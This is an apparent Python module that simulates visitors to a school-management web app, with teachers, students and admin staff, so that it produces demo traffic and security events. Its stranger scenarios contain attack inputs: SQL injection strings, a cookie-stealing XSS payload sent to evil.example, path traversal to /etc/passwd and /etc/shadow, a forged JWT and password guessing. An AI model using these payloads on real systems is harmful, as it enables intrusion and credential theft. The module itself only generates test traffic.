"""What visitors of the school do there: each visit yields requests and is given the replies."""

from collections.abc import Callable, Generator
from dataclasses import dataclass
from random import Random
from typing import Any

from edupro.demo.browser import Browser, Reply, Request, basic, get, picture, send_file, send_form, send_json
from edupro.demo.data import CLASSES, THIS_YEAR
from edupro.demo.day import ALWAYS, Hours
from edupro.school.models.nilai import SUBJECTS

Visit = Generator[Request, Reply, None]
NOBODY = 999_999_999  # the key of no record
LAST_NIS = 10**8  # of those that visitors enrol: 99 and six digits


class Abandoned(Exception):
    """The visitor has not found what the visit was for, and leaves."""


@dataclass(frozen=True)
class VisitorKind:
    name: str
    user_agent: str
    address: str  # on the loopback network
    username: str  # empty for strangers
    share: float  # of all requests while everybody is as busy as usual; of all kinds together 1
    scenarios: tuple[Callable[["Visitor"], Visit], ...]
    classes: tuple[str, ...] = CLASSES  # those that the visitor has to do with
    hours: Hours = ALWAYS  # when, and how much


@dataclass
class Visitor:
    kind: VisitorKind
    browser: Browser
    password: str
    random: Random


def found(who: Visitor, path: str, **query: str | int) -> Generator[Request, Reply, dict[str, Any]]:
    """One record of a list, any."""
    rows = (yield get(path, None, **query)).json().get("results")
    if not rows:
        raise Abandoned
    row: dict[str, Any] = who.random.choice(rows)
    return row


# --- with a token: teachers, students, programs ---
def signed_in(who: Visitor) -> Visit:
    if "access" not in who.browser.tokens:
        reply = yield login(who.kind.username, who.password)
        who.browser.tokens = reply.json() if reply.status == 200 else {}


def login(username: str, password: str) -> Request:
    return send_json("POST", "/api/auth/login", {"username": username, "password": password})


def read_marks(who: Visitor) -> Visit:
    yield from signed_in(who)
    kelas = who.random.choice(who.kind.classes)
    siswa = yield from found(who, "/api/siswa", kelas=kelas, page_size=50)
    yield get("/api/nilai", siswa=siswa["id"])
    yield get("/api/presensi", siswa=siswa["id"])
    yield get("/api/nilai", kelas=kelas, rata_rata_max=70, ordering="rata_rata")


def correct_a_mark(who: Visitor) -> Visit:
    yield from signed_in(who)
    nilai = yield from found(who, "/api/nilai", kelas=who.random.choice(who.kind.classes), tahun_ajaran=THIS_YEAR)
    yield get(f"/api/nilai/{nilai['id']}")
    marks = {who.random.choice(SUBJECTS): who.random.randint(55, 98)}
    yield send_json("PATCH", f"/api/nilai/{nilai['id']}", marks)


def note_attendance(who: Visitor) -> Visit:
    yield from signed_in(who)
    row = yield from found(who, "/api/presensi", kelas=who.random.choice(who.kind.classes), tahun_ajaran=THIS_YEAR)
    kind = who.random.choice(["sakit", "izin", "alpa"])
    if row["hadir"]:
        yield send_json("PATCH", f"/api/presensi/{row['id']}", {kind: row[kind] + 1, "hadir": row["hadir"] - 1})


def mistype_password(who: Visitor) -> Visit:
    who.browser.tokens = {}
    yield login(who.kind.username, who.password[::-1])
    yield from signed_in(who)


def make_mistakes(who: Visitor) -> Visit:
    """400 and 404."""
    yield from signed_in(who)
    nilai = yield from found(who, "/api/nilai", kelas=who.random.choice(who.kind.classes))
    yield send_json("PATCH", f"/api/nilai/{nilai['id']}", {"matematika": 850})
    yield get(f"/api/nilai/{NOBODY}")


def overreach(who: Visitor) -> Visit:
    """403: more than the role may. Of other classes there is nothing to see."""
    yield from signed_in(who)
    yield get("/api/siswa", kelas=who.random.choice([kelas for kelas in CLASSES if kelas not in who.kind.classes]))
    yield get("/api/penghasilan")
    yield Request("DELETE", f"/api/siswa/{who.random.randint(1, 200)}")


def look_at_oneself(who: Visitor) -> Visit:
    yield from signed_in(who)
    yield get("/")
    yield get("/api/auth/me")
    yield get("/api/nilai")
    yield get("/api/presensi")


def raise_own_mark(who: Visitor) -> Visit:
    yield from signed_in(who)
    yield send_json("PATCH", f"/api/nilai/{who.random.randint(1, 600)}", {"matematika": 100})


def renew_token(who: Visitor) -> Visit:
    yield from signed_in(who)
    reply = yield send_json("POST", "/api/auth/refresh", {"refresh": who.browser.tokens.get("refresh", "")})
    who.browser.tokens = reply.json() if reply.status == 200 else {}


def leave(who: Visitor) -> Visit:
    yield from signed_in(who)
    yield send_json("POST", "/api/auth/logout", {"refresh": who.browser.tokens.get("refresh", "")})
    who.browser.tokens = {}


# --- a program of the school's office ---
def update_photo(who: Visitor) -> Visit:
    yield from signed_in(who)
    siswa = yield from found(who, "/api/siswa", kelas=who.random.choice(CLASSES), page_size=50)
    content = picture(*who.random.randbytes(3))
    yield send_file("PATCH", f"/api/siswa/{siswa['id']}", name=f"{siswa['nis']}.png", content=content)


def send_wrong_file(who: Visitor) -> Visit:
    yield from signed_in(who)
    siswa = yield from found(who, "/api/siswa", kelas=who.random.choice(CLASSES))
    yield send_file("PATCH", f"/api/siswa/{siswa['id']}", name="foto.png", content=b"MZ this is no picture")


def enrol_and_leave(who: Visitor) -> Visit:
    """A new student comes, gets marks, changes class, and moves away."""
    yield from signed_in(who)
    student = {"nis": str(LAST_NIS - who.random.randint(1, 10**6)), "nama": "Siswa Pindahan", "kelas": "X-1"}
    siswa = (yield send_json("POST", "/api/siswa", student)).json()
    if "id" not in siswa:
        raise Abandoned
    marks = {"siswa": siswa["id"], "semester": 1, "tahun_ajaran": THIS_YEAR, "matematika": who.random.randint(60, 95)}
    yield send_json("POST", "/api/nilai", marks)
    yield send_json("PUT", f"/api/siswa/{siswa['id']}", {**student, "kelas": "X-2"})
    yield send_json("POST", "/api/siswa", student)  # the number is taken: 400
    yield Request("DELETE", f"/api/siswa/{siswa['id']}")


def ask_with_basic(who: Visitor) -> Visit:
    yield get("/api/siswa", headers=basic(who.kind.username, who.password), search="Putri")


def break_something(who: Visitor) -> Visit:
    """500, a slow query, and 400 by broken JSON."""
    yield from signed_in(who)
    yield get("/demo/rata-rata", kelas=who.random.choice([*CLASSES, "XIII-1", "XIII-2"]))
    yield get("/demo/rata-rata", kelas="XIII-1")
    yield get("/demo/lambat")
    yield Request("POST", "/api/siswa", b'{"nis": "1", ', {"Content-Type": "application/json"})


# --- with a session: those who work in /admin/ ---
def at_desk(who: Visitor) -> Visit:
    if "sessionid" not in who.browser.cookies:
        yield get("/admin/login/")
        yield send_form("/admin/login/?next=/admin/", {"username": who.kind.username, "password": who.password})


def look_around(who: Visitor) -> Visit:
    yield from at_desk(who)
    yield get("/admin/")
    siswa = yield from found(who, "/api/siswa", kelas=who.random.choice(CLASSES), page_size=50)
    yield get("/admin/school/siswa/", q=siswa["nis"])
    yield get(f"/admin/school/siswa/{siswa['id']}/change/")
    yield get("/admin/school/presensi/", kategori="Kurang")


def change_in_admin(who: Visitor) -> Visit:
    yield from at_desk(who)
    nilai = yield from found(who, "/api/nilai", kelas=who.random.choice(CLASSES), tahun_ajaran=THIS_YEAR)
    names = ("siswa", "semester", "tahun_ajaran", *SUBJECTS)
    fields = {name: "" if nilai[name] is None else nilai[name] for name in names}
    page = f"/admin/school/nilairaport/{nilai['id']}/change/"
    yield get(page)
    yield send_form(page, {**fields, who.random.choice(SUBJECTS): who.random.randint(55, 98)})


def mistype_at_desk(who: Visitor) -> Visit:
    if "sessionid" not in who.browser.cookies:
        yield get("/admin/login/")
        yield send_form("/admin/login/", {"username": who.kind.username, "password": who.password[1:]})
    yield from at_desk(who)


def read_events(who: Visitor) -> Visit:
    yield from at_desk(who)
    yield get("/admin/eventlog/event/")
    yield get("/api/events/recent", limit=20, category=who.random.choice(["AUTH", "CRUD", "SECURITY"]))


def leave_desk(who: Visitor) -> Visit:
    yield from at_desk(who)
    yield send_form("/admin/logout/", {})


# --- strangers ---
def knock(who: Visitor) -> Visit:
    """401: without a token, and with one of the visitor's own making."""
    yield get("/api/nilai")
    yield get("/api/siswa", headers={"Authorization": "Bearer eyJhbGciOiJub25lIn0.eyJ1c2VyX2lkIjoxfQ.forged"})


def guess_passwords(who: Visitor) -> Visit:
    for username in ("admin", "guru", "root", "administrator"):
        yield login(username, who.random.choice(["123456", "admin123", "password", "sekolah2024", "qwerty"]))
    yield get("/admin/login/")
    yield send_form("/admin/login/", {"username": "admin", "password": "rahasia"})


def inject(who: Visitor) -> Visit:
    yield login("admin' OR '1'='1' --", "x")
    yield get("/api/siswa", search="' UNION SELECT username, password FROM auth_user --")
    yield get("/", q="<script>document.location='http://evil.example/?c='+document.cookie</script>")
    yield login("<img src=x onerror=alert(1)>", "x")


def climb(who: Visitor) -> Visit:
    yield get("/media/../../../../etc/passwd")
    yield get("/media/..%2f..%2f..%2fetc%2fpasswd")
    yield get("/api/siswa", search="../../../../etc/shadow")


def scan(who: Visitor) -> Visit:
    tool = {"User-Agent": who.random.choice(["sqlmap/1.8.4#stable (https://sqlmap.org)", "Nikto/2.5.0"])}
    for path in who.random.sample(["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/backup.sql"], 3):
        yield get(path, headers=tool)
